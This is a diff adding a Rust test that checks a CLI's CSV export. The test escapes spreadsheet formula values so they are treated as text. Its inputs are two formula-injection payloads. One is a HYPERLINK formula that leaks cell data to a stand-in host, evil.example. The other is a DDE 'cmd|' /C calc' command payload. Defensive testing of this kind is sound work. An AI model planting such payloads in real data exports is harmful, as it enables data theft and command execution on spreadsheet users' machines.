@@ -234,6 +234,43 @@ fn answers_print_as_json_table_or_csv_and_the_cli_reads_its_own_configuration() 
 }
 
 #[test]
+fn csv_output_shows_values_a_spreadsheet_would_evaluate_as_text() {
+    let dir = temp_dir();
+    let server = Server::start(dir.path());
+    let user = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open\")";
+    let directory = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let password = dir.path().join("password");
+    std::fs::write(&password, "s3cret").unwrap();
+    success(server.admin([
+        "nms",
+        "add",
+        "example-customer",
+        "main",
+        "--host",
+        "nms.example.net",
+        "--user",
+        user,
+        "--directory",
+        directory,
+        "--pin",
+        "SHA256:uNiVztksCsDhcc0u9e8BujQXVUpKZIDTMczCvj3tD2s",
+        "--password-file",
+        password.to_str().unwrap(),
+    ]));
+
+    let csv = success(server.admin(["--output", "csv", "nms", "list", "example-customer"]));
+    let cells = super::csv_cells(&csv);
+    let column = |name: &str| cells[0].iter().position(|c| c == name).unwrap();
+    assert_eq!(cells[1][column("username")], format!("'{user}"), "{csv}");
+    assert_eq!(
+        cells[1][column("directory")],
+        format!("'{directory}"),
+        "{csv}"
+    );
+    assert_eq!(super::formula_cells(&csv), Vec::<String>::new(), "{csv}");
+}
+
+#[test]
 fn lists_come_page_by_page() {
     let dir = temp_dir();
     let server = Server::start(dir.path());
